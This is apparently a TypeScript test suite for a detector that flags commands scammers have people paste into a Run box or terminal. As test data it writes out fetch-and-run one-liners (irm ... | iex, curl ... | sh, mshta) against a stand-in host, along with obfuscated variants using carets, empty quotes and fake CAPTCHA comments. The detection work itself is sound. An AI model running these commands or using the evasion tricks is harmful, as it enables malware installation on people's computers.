import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { shippedRules } from '../testing/shipped-catalogue.ts';
import { type CommandSeen, matchCommand as match } from './match-command.ts';
import { compileCommands } from './patterns.ts';
import { readBadCommands, readOrdinaryCommands } from './testing/read-commands.ts';

const { commands, written } = shippedRules();
const matchCommand = (seen: CommandSeen) => match(seen, commands);
const badCommands = ['bad-commands.txt', 'varied-commands.txt'].flatMap(readBadCommands);
const ordinaryFiles = ['ordinary-windows.txt', 'ordinary-windows-terminals.txt', 'ordinary-macos.txt', 'ordinary-linux.txt'];
const ordinaryCommands = ordinaryFiles.flatMap(readOrdinaryCommands);

const windowsCommand = (command_line: string, parents = ['explorer.exe'], name = 'powershell.exe'): CommandSeen => ({
  os: 'windows',
  name,
  command_line,
  parents,
  pipeline: [],
});
const fetchAndRun = windowsCommand('powershell -c "irm https://lure.example/a | iex"');

describe('commands that scammers have people paste', () => {
  test.each(badCommands)('the command is found, with its pattern and host: $seen.command_line', ({ seen, pattern, address }) => {
    expect(matchCommand(seen)).toEqual({ pattern, name: expect.stringMatching(/^a pasted /), address });
  });

  test('every pattern finds a command of the list, and every command of the list has a report as its source', () => {
    const identifiers = written.patterns.map(({ identifier }) => identifier);
    expect(identifiers.filter((identifier) => !badCommands.some(({ pattern }) => pattern === identifier))).toEqual([]);
    expect(new Set(identifiers).size).toBe(identifiers.length);
    expect(readBadCommands('bad-commands.txt').filter(({ source }) => !/, 202[4-6]-\d\d$/.test(source))).toEqual([]);
    expect(readBadCommands('bad-commands.txt').length).toBeGreaterThanOrEqual(70);
  });

  test.each([
    `irm https://sh.example/install.ps1 | iex`,
    `powershell -ExecutionPolicy ByPass -c "irm https://tool.example/install.ps1 | iex"`,
  ])('the published one-line installation of a tool is found too, since it is the same command: %s', (line) => {
    expect(matchCommand(windowsCommand(line))).not.toBeNull();
  });

  test.each([
    ['macos', ['zsh', 'login', 'Terminal'], '/bin/bash -c "$(curl -fsSL https://raw.packages.example/HEAD/install.sh)"'],
    ['linux', ['bash', 'gnome-terminal-server'], 'sh -c "curl --proto \'=https\' --tlsv1.2 -sSf https://sh.packages.example | sh"'],
  ] as const)(
    'the published one-line installation of a tool is found too, since it is the same command: %s',
    (os, parents, command_line) => {
      expect(matchCommand({ os, name: 'bash', command_line, parents: [...parents], pipeline: [] })).not.toBeNull();
    },
  );
});

describe('ordinary commands', () => {
  test('there are at least 2,000 different ones, of which at most a third differ by a version or a number only', () => {
    const different = new Set(ordinaryCommands.map(({ seen }) => JSON.stringify(seen)));
    expect(different.size).toBe(ordinaryCommands.length);
    expect(different.size).toBeGreaterThanOrEqual(2_000);
    expect(ordinaryCommands.filter(({ from_template }) => from_template).length).toBeLessThanOrEqual(different.size / 3);
  });

  test.each(ordinaryFiles)('none of %s is found', (file) => {
    const found = readOrdinaryCommands(file).flatMap(({ seen }) => {
      const match = matchCommand(seen);
      return match ? [`${match.pattern}: ${seen.parents[0]} > ${seen.command_line}`] : [];
    });
    expect(found).toEqual([]);
  });
});

describe('who started the command', () => {
  test.each([
    [['services.exe', 'wininit.exe']],
    [['svchost.exe', 'services.exe']],
    [['setup.exe', 'explorer.exe']],
    [['Code.exe', 'explorer.exe']],
    [['cmd.exe', 'node.exe', 'cmd.exe', 'explorer.exe']],
    [['WINWORD.EXE', 'explorer.exe']],
    [['cmd.exe']],
    [[]],
  ])('a command that %j started is not found, and the same one from the Run box is', (parents) => {
    expect(matchCommand({ ...fetchAndRun, parents })).toBeNull();
    expect(matchCommand(fetchAndRun)).not.toBeNull();
  });

  test.each([
    [['explorer.exe']],
    [['C:\\Windows\\EXPLORER.EXE', 'userinit.exe']],
    [['cmd.exe', 'explorer.exe']],
    [['powershell.exe', 'WindowsTerminal.exe', 'explorer.exe']],
    [['conhost.exe', 'cmd.exe', 'explorer.exe']],
    [['chrome.exe', 'explorer.exe']],
    [['SearchHost.exe', 'svchost.exe']],
  ])('a command from %j is found', (parents) => {
    expect(matchCommand({ ...fetchAndRun, parents })).not.toBeNull();
  });

  const shell: CommandSeen = { os: 'linux', name: 'sh', command_line: 'sh -c "curl lure.example/a | sh"', parents: [], pipeline: [] };
  test.each([
    ['linux', ['bash', 'gnome-terminal-']],
    ['linux', ['-bash', 'login', 'systemd']],
    ['linux', ['sudo', 'bash', 'konsole']],
    ['linux', ['gnome-shell']],
    ['macos', ['-zsh', 'login', 'Terminal', 'launchd']],
    ['macos', ['zsh', 'login', 'iTerm2', 'iTermServer-3.6.1']],
    ['macos', ['Script Editor', 'launchd']],
  ] as const)('a command on %s from %j is found', (os, parents) => {
    expect(matchCommand({ ...shell, os, parents: [...parents] })).not.toBeNull();
    expect(matchCommand({ ...shell, os, parents: ['cron', ...parents] })).toBeNull();
  });

  test('a browser on Linux starts commands for its own purposes, so they are not found', () => {
    expect(matchCommand({ ...shell, parents: ['firefox', 'gnome-shell'] })).toBeNull();
  });
});

describe('the reported address', () => {
  test('it is the host alone, without user, password, port, path and query', () => {
    const line = 'mshta https://ann:secret@Lure.Example:8443/a/token-123?key=456#7';
    expect(matchCommand(windowsCommand(line, undefined, 'mshta.exe'))?.address).toBe('lure.example');
  });

  test.each(['localhost:3000', '127.0.0.1', '192.168.1.20', 'nas.local', '10.0.0.5:8080', '[::1]'])(
    'an address of this computer or network does not count: %s',
    (host) => {
      const line = (address: string) => windowsCommand(`mshta http://${address}/a.hta`, undefined, 'mshta.exe');
      expect(matchCommand(line(host))).toBeNull();
      expect(matchCommand(line('lure.example'))?.address).toBe('lure.example');
      expect(matchCommand(windowsCommand(`powershell -c "irm $env:u | iex" # http://${host}`))).toMatchObject({ address: null });
    },
  );

  test.each([
    ['http://0x5db8d822/a', '93.184.216.34'],
    ['http://1572395042/a', '93.184.216.34'],
    ['https:\\\\lure.example\\a', 'lure.example'],
    ['hTTps:////lure.example/a', 'lure.example'],
    ['http://bücher.example/', 'xn--bcher-kva.example'],
  ])('%s is read as a browser reads it', (written, host) => {
    expect(matchCommand(windowsCommand(`mshta ${written}`, undefined, 'mshta.exe'))?.address).toBe(host);
  });
});

describe('however a command is written', () => {
  const plainWindows = badCommands.filter(({ seen, encoded }) => seen.os === 'windows' && !encoded);
  const anyOf = <T>(list: T[]) => fc.constantFrom(...list);
  const find = (seen: CommandSeen, command_line: string) => matchCommand({ ...seen, command_line });

  test('case makes no difference on Windows', () => {
    fc.assert(
      fc.property(anyOf(plainWindows), fc.array(fc.boolean(), { minLength: 20, maxLength: 60 }), ({ seen }, upper) => {
        const written = Array.from(seen.command_line)
          .map((c, i) => (upper[i % upper.length] ? c.toUpperCase() : c.toLowerCase()))
          .join('');
        expect(find(seen, written)).not.toBeNull();
      }),
      { numRuns: 500 },
    );
  });

  test('carets make no difference on Windows', () => {
    fc.assert(
      fc.property(anyOf(plainWindows), fc.array(fc.nat({ max: 400 }), { maxLength: 20 }), ({ seen }, places) => {
        const written = Array.from(seen.command_line)
          .map((c, i) => (places.includes(i) ? `^${c}` : c))
          .join('');
        expect(find(seen, written)).not.toBeNull();
      }),
      { numRuns: 500 },
    );
  });

  test('more spaces and other blanks make no difference', () => {
    const blank = fc
      .array(anyOf([' ', '\t', '\u00a0', '\u2003', '\u200b ']), { minLength: 1, maxLength: 5 })
      .map((all) => `${all.join('')} `);
    fc.assert(
      fc.property(anyOf(badCommands), blank, ({ seen }, blanks) => {
        expect(
          find(
            seen,
            seen.command_line.replaceAll(' ', () => blanks),
          ),
        ).not.toBeNull();
      }),
      { numRuns: 500 },
    );
  });

  test('empty quotes within words make no difference', () => {
    const words = badCommands.filter(({ encoded }) => !encoded);
    fc.assert(
      fc.property(anyOf(words), fc.nat({ max: 7 }), ({ seen }, nth) => {
        let count = 0;
        const written = seen.command_line.replace(/\b(mshta|powershell|iex|irm|iwr|curl|wget|bash|msiexec|osascript)\b/gi, (word) =>
          (count++ + nth) % 3 === 0 ? `${word[0]}""${word.slice(1)}` : word,
        );
        expect(find(seen, written)).not.toBeNull();
      }),
      { numRuns: 500 },
    );
  });

  test('a comment behind the command makes no difference', () => {
    const comment = fc.string({ maxLength: 60 }).map((text) => ` # ${text.replace(/["'`%!$\\^]/g, '')}`);
    fc.assert(
      fc.property(anyOf(badCommands), comment, ({ seen }, text) => {
        expect(find(seen, `${seen.command_line}${text}`)).not.toBeNull();
      }),
      { numRuns: 500 },
    );
  });

  test('a comment alone is not enough', () => {
    expect(matchCommand(windowsCommand('powershell -c "Get-Date" # ✅ I am not a robot: reCAPTCHA ID 8731'))).toBeNull();
    expect(matchCommand(windowsCommand('powershell -c "irm lure.example|iex" # ✅ I am not a robot: reCAPTCHA ID 8731'))).not.toBeNull();
  });

  test('the order in which the system lists a pipeline makes no difference', () => {
    const processes = ['curl -s https://lure.example/a', 'base64 -d', 'bash'].map((command_line) => ({
      name: command_line.split(' ')[0] ?? '',
      command_line,
    }));
    fc.assert(
      fc.property(fc.shuffledSubarray(processes, { minLength: 3 }), ([own, ...pipeline]) => {
        const seen = { os: 'macos' as const, name: '', command_line: '', ...own, parents: ['zsh', 'login', 'Terminal'], pipeline };
        expect(matchCommand(seen)).toMatchObject({ pattern: 'fetch-into-a-shell', address: 'lure.example' });
      }),
    );
  });

  test('a script of several lines, which a shell got as one word, is found', () => {
    const script = (last: string) => `bash -c #!/bin/bash\ncurl -so /tmp/update https://lure.example/u\nsleep 1\n${last}`;
    const seen = { os: 'macos' as const, name: 'bash', parents: ['zsh', 'login', 'Terminal'], pipeline: [] };
    expect(matchCommand({ ...seen, command_line: script('/tmp/update') })?.address).toBe('lure.example');
    expect(matchCommand({ ...seen, command_line: 'bash -c #!/bin/bash\ncurl -so /tmp/a.json https://lure.example/u\nls' })).toBeNull();
  });

  test('no text makes the matcher throw', () => {
    const system = anyOf([...new Set(badCommands.map(({ seen }) => seen.os))]);
    fc.assert(
      fc.property(system, fc.string({ unit: 'binary', maxLength: 300 }), fc.string({ unit: 'binary', maxLength: 30 }), (os, text, name) => {
        const parents = [{ windows: 'explorer.exe', macos: 'Terminal', linux: 'konsole' }[os]];
        for (const program of [name, 'bash', 'powershell.exe', 'cmd.exe'])
          expect(() =>
            matchCommand({ os, name: program, command_line: text, parents, pipeline: [{ name, command_line: text }] }),
          ).not.toThrow();
      }),
      { numRuns: 300 },
    );
  });
});

test('every group of programs and words is used', () => {
  const used = JSON.stringify([written.patterns]);
  const groups = [...Object.keys(written.words), ...Object.keys(written.program_groups)];
  expect(groups.filter((group) => !used.includes(`"@${group}"`))).toEqual([]);
  expect(Object.values(commands.patterns).flat().length).toBeGreaterThan(30);
});

test('[P16.1] a pattern that cannot be read is left out with its reason, and the others of its set are found as before', () => {
  const [first, ...others] = written.patterns;
  if (!first) throw new Error('there is no pattern');
  const unreadable = [
    { ...first, identifier: 'no-group', programs: ['@no-such-group'] },
    { ...first, identifier: 'of-the-prototype', programs: ['@constructor'] },
    { ...first, identifier: 'no-term', must: [['^']] },
  ];
  const problems: unknown[] = [];
  const compiled = compileCommands({ ...written, patterns: [...unreadable, first, ...others] }, (problem) => problems.push(problem));
  expect(compiled).toEqual(commands);
  expect(new Set(problems.map(String)).size).toBe(3);
});
